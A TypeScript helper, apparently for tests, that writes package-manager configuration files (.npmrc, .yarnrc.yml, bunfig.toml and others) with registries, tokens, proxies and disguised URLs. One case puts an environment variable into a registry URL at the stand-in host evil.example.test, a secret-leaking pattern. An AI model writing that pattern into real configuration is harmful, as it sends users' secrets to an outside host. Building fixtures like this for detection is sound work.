import { keyOf } from './cast.ts';

export const MANAGERS = ['npm', 'pnpm', 'yarn1', 'berry', 'bun'] as const;
export type Manager = (typeof MANAGERS)[number];

/** A registry that a project configures, and what it wants to send there. */
export interface Named {
  /** With a trailing slash. */
  readonly url: string;
  /** The written form if it is to be a disguised URL; otherwise `url`. */
  readonly written?: string;
  /** A literal token, or the name of an environment variable. */
  readonly token?: string;
  readonly variable?: string;
  /** The form of the credential in an .npmrc. */
  readonly form?: 'token' | 'auth' | 'password';
}

/** One project's configuration of where its packages are. */
export interface Configuration {
  readonly registry: Named | undefined;
  /** By scope, with the @. */
  readonly scopes: Readonly<Record<string, Named>>;
  /** Credentials for hosts that serve nothing here. */
  readonly strays: readonly Named[];
  readonly proxy: string | undefined;
  readonly cafile: string | undefined;
  /** An environment variable that is inserted into a URL. */
  readonly variableInAddress: string | undefined;
}

/** Returns a configuration as the files that a package manager reads. */
export function configurationFiles(manager: Manager, configuration: Configuration): Record<string, string> {
  switch (manager) {
    case 'npm':
      return { '.npmrc': npmrc(configuration) };
    case 'pnpm':
      return { '.npmrc': npmrc(configuration), 'pnpm-workspace.yaml': pnpmWorkspace(configuration) };
    case 'yarn1':
      return { '.npmrc': npmrc(configuration), '.yarnrc': classicYarnrc(configuration) };
    case 'berry':
      return { '.yarnrc.yml': yarnrc(configuration) };
    case 'bun':
      return { 'bunfig.toml': bunfig(configuration) };
  }
}

function npmrc(configuration: Configuration): string {
  const { registry, scopes, strays, proxy, cafile, variableInAddress } = configuration;
  const named = [...(registry === undefined ? [] : [registry]), ...Object.values(scopes), ...strays];
  return lines([
    registry && `registry=${registry.written ?? registry.url}`,
    ...Object.entries(scopes).map(([scope, { url, written = url }]) => `${scope}:registry=${written}`),
    ...named.flatMap(npmCredential),
    proxy && `proxy=${proxy}`,
    proxy && `https-proxy=${proxy}`,
    cafile && `cafile=${cafile}`,
    variableInAddress && `@by-address:registry=https://evil.example.test/${dollar(variableInAddress)}/`,
    variableInAddress && `//evil.example.test/${dollar(variableInAddress)}/:_authToken=x`,
  ]);
}

function npmCredential(named: Named): readonly string[] {
  const value = secretOf(named);
  if (value === undefined) return [];
  const key = keyOf(named.url);
  switch (named.form) {
    case 'auth':
      return [`${key}:_auth=${value}`];
    case 'password':
      return [`${key}:username=ana`, `${key}:_password=${value}`];
    default:
      return [`${key}:_authToken=${value}`];
  }
}

function pnpmWorkspace({ registry, scopes, proxy }: Configuration): string {
  const registries = { ...scopes, ...(registry === undefined ? {} : { default: registry }) };
  return lines([
    'packages:',
    '  - packages/*',
    Object.keys(registries).length > 0 && 'registries:',
    ...Object.entries(registries).map(
      ([scope, { url, written = url }]) => `  ${JSON.stringify(scope)}: ${JSON.stringify(written)}`,
    ),
    proxy && `httpsProxy: ${proxy}`,
  ]);
}

function classicYarnrc({ registry, scopes, proxy }: Configuration): string {
  return lines([
    registry && `registry ${JSON.stringify(registry.written ?? registry.url)}`,
    ...Object.entries(scopes).map(
      ([scope, { url, written = url }]) => `"${scope}:registry" ${JSON.stringify(written)}`,
    ),
    proxy && `https-proxy ${JSON.stringify(proxy)}`,
  ]);
}

function yarnrc({ registry, scopes, strays, proxy, cafile, variableInAddress }: Configuration): string {
  const scoped = { ...scopes };
  if (variableInAddress !== undefined)
    scoped['@by-address'] = { url: `https://evil.example.test/${dollar(variableInAddress)}/` };
  return lines([
    registry && `npmRegistryServer: ${JSON.stringify(registry.written ?? registry.url)}`,
    registry && secretOf(registry) && `npmAuthToken: ${JSON.stringify(secretOf(registry))}`,
    Object.keys(scoped).length > 0 && 'npmScopes:',
    ...Object.entries(scoped).flatMap(([scope, named]) => [
      `  ${JSON.stringify(scope.slice(1))}:`,
      `    npmRegistryServer: ${JSON.stringify(named.written ?? named.url)}`,
      ...(secretOf(named) === undefined ? [] : [`    npmAuthToken: ${JSON.stringify(secretOf(named))}`]),
    ]),
    strays.length > 0 && 'npmRegistries:',
    ...strays.flatMap((named) => [
      `  ${JSON.stringify(keyOf(named.url).replace(/\/$/, ''))}:`,
      `    npmAuthToken: ${JSON.stringify(secretOf(named))}`,
      '    npmAlwaysAuth: true',
    ]),
    proxy && `httpsProxy: ${JSON.stringify(proxy)}`,
    cafile && `httpsCaFilePath: ${JSON.stringify(cafile)}`,
  ]);
}

function bunfig({ registry, scopes, cafile }: Configuration): string {
  const table = (named: Named) => {
    const value = named.token ?? (named.variable === undefined ? undefined : `$${named.variable}`);
    const token = value === undefined ? '' : `, token = ${JSON.stringify(value)}`;
    return `{ url = ${JSON.stringify(named.written ?? named.url)}${token} }`;
  };
  return lines([
    '[install]',
    registry && `registry = ${table(registry)}`,
    cafile && `cafile = ${JSON.stringify(cafile)}`,
    '[install.scopes]',
    ...Object.entries(scopes).map(([scope, named]) => `${JSON.stringify(scope.slice(1))} = ${table(named)}`),
  ]);
}

function secretOf({ token, variable }: Named): string | undefined {
  return variable === undefined ? token : dollar(variable);
}

function dollar(variable: string): string {
  return `$${`{${variable}}`}`;
}

function lines(all: readonly (string | false | undefined)[]): string {
  return `${all.filter((line) => typeof line === 'string' && line !== '').join('\n')}\n`;
}
